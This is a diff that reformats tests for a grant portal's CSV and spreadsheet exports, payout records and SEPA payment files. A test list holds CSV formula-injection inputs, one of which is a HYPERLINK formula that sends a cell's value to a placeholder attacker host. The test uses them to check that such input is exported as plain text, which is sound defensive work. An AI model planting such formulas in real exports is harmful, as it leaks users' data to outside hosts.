@@ -40,7 +40,14 @@ ASKED = 5_400_00  # half-time at EUR 5.400,00 a month for four months, at 50 %
 ADVANCE = 2_160_00  # 40 % of it, at grant
 PAIN = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"
 XSD = os.path.join(os.path.dirname(sepaxml.__file__), "schemas", "pain.001.001.03.xsd")
-EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+1 want het is goed", "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1"]
+EVIL = [
+    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
+    "+1 want het is goed",
+    "@SUM(A1:A9)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture(autouse=True)
@@ -110,12 +117,29 @@ def test_the_dossier_export_has_every_submitted_dossier_with_its_money_in_both_f
     assert draft.reference is None and "" not in references
 
     planned = by_reference(rows, money["planned"].reference)
-    assert (planned["Oproep"], planned["Status"], planned["Statuscode"]) == ("ARM-EXP", "Toegekend", "granted")  # words, and the stable code
+    assert (planned["Oproep"], planned["Status"], planned["Statuscode"]) == (
+        "ARM-EXP",
+        "Toegekend",
+        "granted",
+    )  # words, and the stable code
     assert (planned["Gevend bestuur"], planned["NIS-code gevend bestuur"]) == ("Gent", "44021")
-    assert (planned["Ontvangend bestuur"], planned["NIS-code ontvangend bestuur"], planned["Provincie gevend bestuur"]) == ("Tielt", "37022", "Oost-Vlaanderen")
-    assert (planned["Vorm"], planned["Thema's"]) == ("Mentoring", "Lokale regie; Participatief werken met mensen in armoede")
+    assert (
+        planned["Ontvangend bestuur"],
+        planned["NIS-code ontvangend bestuur"],
+        planned["Provincie gevend bestuur"],
+    ) == ("Tielt", "37022", "Oost-Vlaanderen")
+    assert (planned["Vorm"], planned["Thema's"]) == (
+        "Mentoring",
+        "Lokale regie; Participatief werken met mensen in armoede",
+    )
     assert len(planned["Ingediend op"]) == len("2026-11-23 14:05") and planned["Ingediend op"][4] == "-"
-    assert [planned[c] for c in ("Gevraagd", "Gereserveerd", "Vastgelegd", "Betaald", "Openstaand")] == ["5.400,00", "0,00", "5.400,00", "0,00", "5.400,00"]
+    assert [planned[c] for c in ("Gevraagd", "Gereserveerd", "Vastgelegd", "Betaald", "Openstaand")] == [
+        "5.400,00",
+        "0,00",
+        "5.400,00",
+        "0,00",
+        "5.400,00",
+    ]
     # Advance paid, settled at one month, the excess still to come back: committed stays at what was paid.
     recovered = by_reference(rows, money["recovered"].reference)
     assert [recovered[c] for c in ("Vastgelegd", "Betaald", "Openstaand")] == ["2.160,00", "2.160,00", "0,00"]
@@ -176,12 +200,31 @@ def test_the_payout_export_lists_every_payout_with_who_prepared_and_approved_it(
     rows = read_csv(exports.to_csv(exports.payouts_table()))
     recovery = money["recovery"]
     row = by_reference(rows, recovery.end_to_end_id, "Referentie voor de bank")
-    assert (row["Dossier"], row["Gevend bestuur"], row["Soort"], row["Status"], row["Statuscode"]) == (money["recovered"].reference, "Gent", "Terugvordering", "Goedgekeurd", "approved")
-    assert (row["Bedrag"], row["IBAN"], row["Goedgekeurd door"]) == ("810,00", recovery.iban, people["finance"].full_name)
+    assert (row["Dossier"], row["Gevend bestuur"], row["Soort"], row["Status"], row["Statuscode"]) == (
+        money["recovered"].reference,
+        "Gent",
+        "Terugvordering",
+        "Goedgekeurd",
+        "approved",
+    )
+    assert (row["Bedrag"], row["IBAN"], row["Goedgekeurd door"]) == (
+        "810,00",
+        recovery.iban,
+        people["finance"].full_name,
+    )
     paid = by_reference(rows, advance_of(money["recovered"]).end_to_end_id, "Referentie voor de bank")
-    assert (paid["Statuscode"], paid["Bedrag"], paid["Betaald op"], paid["Bankreferentie"]) == ("paid", "2.160,00", utcnow().date().isoformat(), "BNK-ADV")
+    assert (paid["Statuscode"], paid["Bedrag"], paid["Betaald op"], paid["Bankreferentie"]) == (
+        "paid",
+        "2.160,00",
+        utcnow().date().isoformat(),
+        "BNK-ADV",
+    )
     planned = by_reference(rows, advance_of(money["planned"]).end_to_end_id, "Referentie voor de bank")
-    assert (planned["Voorbereid door"], planned["Goedgekeurd door"], planned["Goedgekeurd op"]) == (people["officer"].full_name, "", "")
+    assert (planned["Voorbereid door"], planned["Goedgekeurd door"], planned["Goedgekeurd op"]) == (
+        people["officer"].full_name,
+        "",
+        "",
+    )
 
 
 # --- formula injection -------------------------------------------------------------------------
@@ -267,9 +310,11 @@ def test_names_and_comments_that_look_like_formulas_come_out_as_text_in_both_for
 def transactions(xml):
     root = ET.fromstring(xml)  # noqa: S314 (the file the portal itself just made)
     ns = {"p": PAIN}
-    return root, ns, {
-        tx.findtext("p:PmtId/p:EndToEndId", namespaces=ns): tx for tx in root.iterfind(".//p:CdtTrfTxInf", ns)
-    }
+    return (
+        root,
+        ns,
+        {tx.findtext("p:PmtId/p:EndToEndId", namespaces=ns): tx for tx in root.iterfind(".//p:CdtTrfTxInf", ns)},
+    )
 
 
 def test_a_payment_batch_holds_exactly_the_approved_advances_and_balances_and_validates(app, people, money):
@@ -297,7 +342,9 @@ def test_a_payment_batch_holds_exactly_the_approved_advances_and_balances_and_va
 
     message_id = root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:MsgId", namespaces=ns)
     assert batch.message_id == message_id and (batch.payout_count, batch.total_cents) == (2, 2 * ADVANCE)
-    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "payment_batch.created", AuditEntry.entity_id == str(batch.id)))
+    entry = db.session.scalar(
+        select(AuditEntry).where(AuditEntry.action == "payment_batch.created", AuditEntry.entity_id == str(batch.id))
+    )
     assert entry.actor_id == people["finance"].id
     assert entry.details["payout_ids"] == sorted(p.id for p in approved)
     assert entry.details["message_id"] == message_id and entry.details["total_cents"] == 2 * ADVANCE
@@ -325,7 +372,11 @@ def test_a_payout_in_a_payment_file_is_never_in_a_second_one(people, money):
     # Even code that would try: the database holds a payout pending in one file only.
     item = first.items[0]
     with db.session.begin_nested(), pytest.raises(IntegrityError):
-        db.session.add(PaymentBatchItem(batch_id=item.batch_id, payout_id=item.payout_id, amount_cents=1, end_to_end_id="X", outcome="pending"))
+        db.session.add(
+            PaymentBatchItem(
+                batch_id=item.batch_id, payout_id=item.payout_id, amount_cents=1, end_to_end_id="X", outcome="pending"
+            )
+        )
         db.session.flush()
 
 
@@ -339,7 +390,10 @@ def test_paid_or_failed_is_recorded_per_payout_and_a_failed_one_goes_into_a_late
     payouts.approve(failed.id, people["finance2"])
     second = payment_batches.create_batch(people["finance"], utcnow().date())
     assert [i.payout_id for i in second.items] == [failed.id] and second.message_id != first.message_id
-    assert {i.payout_id: i.outcome for i in first.items} == {paid.id: "paid", failed.id: "failed"}  # the first file's record stays
+    assert {i.payout_id: i.outcome for i in first.items} == {
+        paid.id: "paid",
+        failed.id: "failed",
+    }  # the first file's record stays
     payouts.pay(failed.id, people["finance"], utcnow().date(), "BNK-2")
     assert [i.outcome for i in second.items] == ["paid"]
 
